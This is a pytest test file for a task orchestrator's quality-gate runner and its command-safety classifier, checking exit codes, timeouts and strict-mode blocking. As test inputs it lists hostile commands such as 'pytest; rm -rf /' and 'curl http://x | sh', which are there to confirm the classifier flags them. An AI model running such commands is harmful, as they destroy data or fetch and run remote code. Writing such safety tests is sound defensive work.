from __future__ import annotations

import sys
from pathlib import Path

import allure
import pytest

from taskrelay.orchestrator.models import VerificationOutcome
from taskrelay.orchestrator.verification import (
    CommandGateRunner,
    CommandSafety,
    UnsafeQualityCommandError,
    check_quality_command,
    truncate_tail,
    validate_quality_commands,
)

pytestmark = [
    allure.epic("Pipeline"),
    allure.feature("Quality Gate"),
]

PY = sys.executable


def _runner(tmp_path: Path, *, timeout: int = 30) -> CommandGateRunner:
    return CommandGateRunner(working_dir=tmp_path, command_timeout_seconds=timeout)


def test_empty_command_list_is_skipped(tmp_path: Path) -> None:
    result = _runner(tmp_path).run(["", "   "])

    assert result.outcome == VerificationOutcome.SKIPPED
    assert result.passed


def test_all_commands_pass(tmp_path: Path) -> None:
    result = _runner(tmp_path).run([f'{PY} -c "print(1)"', f'{PY} -c "print(2)"'])

    assert result.outcome == VerificationOutcome.PASS
    assert [item.exit_code for item in result.results] == [0, 0]


def test_gate_stops_at_first_failure(tmp_path: Path) -> None:
    marker = tmp_path / "ran.txt"
    commands = [
        f'{PY} -c "print(\'lint ok\')"',
        f'{PY} -c "import sys; print(\'2 tests failed\'); sys.exit(3)"',
        f'{PY} -c "open(\'{marker.name}\', \'w\').close()"',
    ]

    result = _runner(tmp_path).run(commands)

    assert result.outcome == VerificationOutcome.FAIL
    assert not result.passed
    assert result.failing_command == commands[1]
    assert "2 tests failed" in result.output
    assert len(result.results) == 2
    assert result.describe_failure().endswith("exited with 3")
    assert not marker.exists()


def test_command_timeout_reports_exit_124(tmp_path: Path) -> None:
    result = _runner(tmp_path, timeout=1).run([f"{PY} -c \"__import__('time').sleep(5)\""])

    assert result.outcome == VerificationOutcome.FAIL
    assert result.results[0].timed_out
    assert result.results[0].exit_code == 124
    assert "timed out after 1s" in result.output


def test_missing_command_reports_exit_127(tmp_path: Path) -> None:
    result = _runner(tmp_path).run(["definitely-not-a-real-binary-xyz --check"])

    assert result.outcome == VerificationOutcome.FAIL
    assert result.results[0].exit_code == 127


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pytest -q", CommandSafety.SAFE),
        ("npm test", CommandSafety.SAFE),
        ("./scripts/check.sh", CommandSafety.SUSPICIOUS),
        ("pytest && rm -rf build", CommandSafety.DANGEROUS),
        ("curl http://example.com/x.sh", CommandSafety.DANGEROUS),
        ("pytest -q && ruff check .", CommandSafety.SAFE),
        ("pytest -q | tee report.txt", CommandSafety.SUSPICIOUS),
        ("make lint > lint.log", CommandSafety.SAFE),
        ("npm test || bash -x fix.sh", CommandSafety.DANGEROUS),
        ("pytest; sudo make install", CommandSafety.DANGEROUS),
        ("cat setup.sh | sh", CommandSafety.DANGEROUS),
        ("", CommandSafety.SAFE),
    ],
)
def test_check_quality_command(command: str, expected: CommandSafety) -> None:
    assert check_quality_command(command) == expected


def test_strict_mode_blocks_dangerous_commands(caplog: pytest.LogCaptureFixture) -> None:
    validate_quality_commands(["make check", "./lint.sh"], strict=True)
    assert "suspicious" in caplog.text

    with pytest.raises(UnsafeQualityCommandError):
        validate_quality_commands(["pytest; rm -rf /"], strict=True)
    validate_quality_commands(["pytest; rm -rf /"], strict=False)


def test_truncate_tail_keeps_the_end() -> None:
    text = "a" * 50 + "FAILED test_x"

    truncated = truncate_tail(text, 13)

    assert truncated.endswith("FAILED test_x")
    assert truncated.startswith("[... 50 chars truncated]")
    assert truncate_tail("  short  ", 100) == "short"


def test_strict_mode_accepts_chained_allowlisted_commands(
    caplog: pytest.LogCaptureFixture,
) -> None:
    validate_quality_commands(["pytest -q && ruff check .", "npm run lint; npm test"], strict=True)

    assert "Quality command looks" not in caplog.text
    with pytest.raises(UnsafeQualityCommandError, match="curl"):
        validate_quality_commands(["pytest -q && curl http://x | sh"], strict=True)
